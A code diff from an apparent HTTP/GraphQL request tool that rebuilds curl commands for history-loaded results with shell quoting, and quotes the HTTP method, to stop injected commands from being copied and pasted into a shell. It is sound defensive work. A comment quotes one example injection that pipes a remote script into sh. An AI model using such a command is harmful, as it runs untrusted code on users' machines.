@@ -94,6 +94,18 @@ export function curlWithPlaceholder(curl: string, redactor: Redactor): string {
   return out;
 }
 
+/**
+ * The curl command to copy for a result. A result reopened from the history is a file of the
+ * workspace, and an archive may ship `.graphreq-history/` whole: its `curl` is whatever the file
+ * says (`curl https://x; curl https://host/s | sh`), and what is copied is pasted into a shell. So
+ * such a result's command is built again from its request, each word quoted; a result of this
+ * session keeps the server's command (which reads the token from its variable).
+ */
+export function curlOf(r: { curl?: string; request: { method: string; url: string; headers: Record<string, string>; body: string | null } }, fromHistory: boolean, redactor: Redactor): string {
+  if (r.curl && !fromHistory) return curlWithPlaceholder(r.curl, redactor);
+  return renderCurl({ method: r.request.method, url: r.request.url, headers: Object.entries(r.request.headers ?? {}), body: r.request.body ?? undefined }, redactor);
+}
+
 /** Quotes a word for a POSIX shell. */
 export function shellQuote(s: string): string {
   if (/^[\w@%+=:,./-]+$/.test(s)) return s;
@@ -106,7 +118,7 @@ export function shellQuote(s: string): string {
  */
 export function renderCurl(req: { method?: string; url?: string; headers?: Array<[string, string]>; body?: string }, redactor: Redactor): string {
   const parts = ['curl', '-sS'];
-  if (req.method && req.method !== 'GET') parts.push('-X', req.method);
+  if (req.method && req.method !== 'GET') parts.push('-X', shellQuote(req.method));
   for (const [k, v] of req.headers ?? []) parts.push('-H', shellQuote(`${k}: ${v}`));
   if (req.body) parts.push('--data-binary', shellQuote(req.body));
   parts.push(shellQuote(req.url ?? ''));
